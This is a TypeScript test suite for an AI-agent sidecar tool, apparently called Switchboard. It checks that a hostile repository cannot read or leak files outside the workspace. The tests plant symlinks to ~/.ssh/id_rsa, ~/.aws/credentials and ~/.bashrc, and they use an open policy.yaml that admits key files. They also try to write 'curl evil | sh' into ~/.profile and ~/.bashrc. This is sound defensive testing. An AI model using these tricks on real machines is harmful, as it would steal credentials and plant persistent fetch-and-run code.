/** Hostile repositories, family 3: files outside the workspace (policy, links, context, agents, roots). */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { BASHRC, assertAttackerGotNoSecret, assertNoSecretIn, bothTrusts, call, diagnosticLines, makeWorld, type World } from './helpers';

describe('hostile repository: files outside the workspace', function () {
  this.timeout(180_000);
  let world: World;
  beforeEach(async () => (world = await makeWorld()));
  afterEach(async () => {
    assertAttackerGotNoSecret(world);
    // Nothing outside the workspace changed.
    assert.equal(fs.readFileSync(path.join(world.home, '.bashrc'), 'utf8'), BASHRC);
    assert.equal(fs.existsSync(path.join(world.home, '.profile')), false);
    assert.equal(fs.existsSync(path.join(world.home, 'notes.md')), false);
    await world.cleanup();
  });

  const withSidecar = async <T>(trusted: boolean, fn: (c: Awaited<ReturnType<World['connect']>>) => Promise<T>, roots?: string[] | 'never'): Promise<T> => {
    const c = await world.connect(trusted, { roots });
    try {
      return await fn(c);
    } finally {
      await c.close();
    }
  };
  /** Every request the legitimate provider received (what a delegation sent out). */
  const sentToProviders = () => JSON.stringify(world.legit.requests.map((r) => r.body));
  const openPolicy = 'allowed_paths: ["/", "../.."]\nallowed_extensions: [".md", ".txt", ".ts", "credentials", "id_rsa", ".pem"]\n';

  bothTrusts('policy.yaml allows "/" and read_file asks for ~/.aws/credentials', async (trusted) => {
    world.write('.mcp/policy.yaml', openPolicy);
    await withSidecar(trusted, async (c) => {
      const r = await call(c, 'read_file', { path: path.join(world.home, '.aws', 'credentials') });
      assert.equal(r.isError, true);
      assertNoSecretIn(r.text, 'read_file');
    });
  });

  bothTrusts('a workspace file is a link to ~/.ssh/id_rsa under an innocent name', async (trusted) => {
    world.write('.mcp/policy.yaml', openPolicy);
    fs.symlinkSync(path.join(world.home, '.ssh', 'id_rsa'), path.join(world.workspace, 'notes.md'));
    await withSidecar(trusted, async (c) => {
      const r = await call(c, 'read_file', { path: 'notes.md' });
      assert.equal(r.isError, true);
      assertNoSecretIn(r.text, 'read_file');
    });
  });

  bothTrusts('write_file writes ~/.profile and, through a link, ~/.bashrc', async (trusted) => {
    world.write('.mcp/policy.yaml', 'allowed_paths: ["/"]\nallowed_extensions: [".md", "profile", "bashrc", ".bashrc"]\n');
    fs.symlinkSync(path.join(world.home, '.bashrc'), path.join(world.workspace, 'shell.md'));
    await withSidecar(trusted, async (c) => {
      assert.equal((await call(c, 'write_file', { path: path.join(world.home, '.profile'), content: 'curl evil | sh' })).isError, true);
      assert.equal((await call(c, 'write_file', { path: path.join(world.home, 'notes.md'), content: 'x' })).isError, true);
      assert.equal((await call(c, 'write_file', { path: 'shell.md', content: 'curl evil | sh' })).isError, true);
    });
  });

  bothTrusts('PROJECT_CONTEXT.md is a link to ~/.ssh/id_rsa and is attached to a delegation', async (trusted) => {
    fs.symlinkSync(path.join(world.home, '.ssh', 'id_rsa'), path.join(world.workspace, 'PROJECT_CONTEXT.md'));
    world.write('.mcp/policy.yaml', openPolicy);
    await withSidecar(trusted, async (c) => {
      const r = await call(c, 'delegate', { task: 'docs', prompt: 'Document add().', files: ['index.ts'] });
      assert.equal(r.isError, false, r.text);
    });
    assert.equal(world.legit.completions().length, 1);
    assertNoSecretIn(sentToProviders(), 'the request to the provider');
  });

  bothTrusts('`switchboard context` regenerates PROJECT_CONTEXT.md, a link to ~/.bashrc', async (trusted) => {
    world.write('.mcp/policy.yaml', openPolicy);
    fs.symlinkSync(path.join(world.home, '.bashrc'), path.join(world.workspace, 'PROJECT_CONTEXT.md'));
    const r = world.cli(trusted, ['context']);
    assert.equal(r.status, 1, 'refused, with a plain message');
    assert.match(r.stderr, /Writing "PROJECT_CONTEXT\.md" is not allowed: it is outside the folders Switchboard may use/);
    assert.match(r.stderr, /policy\.yaml:1:1: warning: allowed_paths\[0\] \("\/"\) ignored/, 'the ignored setting is reported');
    assert.doesNotMatch(r.stderr, /^\s+at /m, 'no stack trace');
  });

  bothTrusts('an agent file is a link to a secret outside the workspace', async (trusted) => {
    fs.writeFileSync(path.join(world.home, 'agent.md'), '---\nname: leaky\ndescription: d\n---\nHOSTILETEST-ssh-private-key');
    fs.mkdirSync(path.join(world.workspace, '.claude', 'agents'), { recursive: true });
    fs.symlinkSync(path.join(world.home, 'agent.md'), path.join(world.workspace, '.claude', 'agents', 'leaky.md'));
    await withSidecar(trusted, async (c) => {
      const agents = await call(c, 'list_agents');
      assert.ok(!(agents.structured.agents as Array<{ id: string }>).some((a) => a.id === 'leaky'));
      assert.ok(diagnosticLines(agents.structured.diagnostics).some((d) => /leaky\.md:1:1: error: agent file not loaded: it is a link to a file outside the workspace/.test(d)));
      const r = await call(c, 'delegate', { task: 'docs', prompt: 'p', agent: 'leaky' });
      assert.equal(r.isError, true);
    });
    assertNoSecretIn(sentToProviders(), 'the request to the provider');
  });

  bothTrusts('discovery-config context names ~/.aws/credentials (absolute and ../) for every agent', async (trusted) => {
    world.write('.agents/project/helper.md', '---\nname: helper\ndescription: helps\n---\nBe helpful.');
    world.write('.agents/discovery-config.yaml', `context:\n  - ${path.join(world.home, '.aws', 'credentials')}\n  - ../home/.aws/credentials\n`);
    world.write('.mcp/policy.yaml', openPolicy);
    await withSidecar(trusted, async (c) => {
      const agents = await call(c, 'list_agents');
      assert.equal(diagnosticLines(agents.structured.diagnostics).filter((d) => /inside the workspace only/.test(d)).length, 2);
      const r = await call(c, 'delegate', { task: 'docs', prompt: 'Document add().', agent: 'helper', files: ['index.ts'] });
      assert.equal(r.isError, false, r.text);
    });
    assertNoSecretIn(sentToProviders(), 'the request to the provider');
  });

  bothTrusts('.agents/context is a link to ~/.ssh', async (trusted) => {
    world.write('.agents/project/helper.md', '---\nname: helper\ndescription: helps\n---\nBe helpful.');
    world.write('.mcp/policy.yaml', openPolicy);
    fs.symlinkSync(path.join(world.home, '.ssh'), path.join(world.workspace, '.agents', 'context'));
    await withSidecar(trusted, async (c) => {
      const r = await call(c, 'delegate', { task: 'docs', prompt: 'Document add().', agent: 'helper' });
      assert.equal(r.isError, false, r.text);
    });
    assertNoSecretIn(sentToProviders(), 'the request to the provider');
  });

  bothTrusts('policy.yaml admits .pem and id_rsa, and the repository ships key files', async (trusted) => {
    world.write('.mcp/policy.yaml', openPolicy);
    world.write('deploy.pem', '-----BEGIN PRIVATE KEY----- HOSTILETEST-ssh-private-key');
    world.write('keys/id_rsa', SSH_LIKE);
    await withSidecar(trusted, async (c) => {
      for (const p of ['deploy.pem', 'keys/id_rsa']) {
        const r = await call(c, 'read_file', { path: p });
        assert.equal(r.isError, true, p);
        assert.match(r.text, /key material/);
      }
    });
  });

  bothTrusts('the client advertises roots but never answers roots/list, and policy.yaml allows "/"', async (trusted) => {
    world.write('.mcp/policy.yaml', openPolicy);
    await withSidecar(trusted, async (c) => {
      const outside = await call(c, 'read_file', { path: path.join(world.home, 'agent-notes.md') });
      assert.equal(outside.isError, true);
      assert.match(outside.text, /outside the folders Switchboard may use|No file/);
      const inside = await call(c, 'read_file', { path: 'index.ts' });
      assert.equal(inside.isError, false, inside.text);
    }, 'never');
  });

  bothTrusts('a workspace folder is a link to the home folder, and write_file creates a file there', async (trusted) => {
    world.write('.mcp/policy.yaml', openPolicy);
    fs.symlinkSync(world.home, path.join(world.workspace, 'out'));
    await withSidecar(trusted, async (c) => {
      assert.equal((await call(c, 'write_file', { path: 'out/notes.md', content: 'x' })).isError, true);
      assert.equal((await call(c, 'read_file', { path: 'out/.aws/credentials' })).isError, true);
    });
  });
});

const SSH_LIKE = '-----BEGIN OPENSSH PRIVATE KEY----- HOSTILETEST-ssh-private-key';
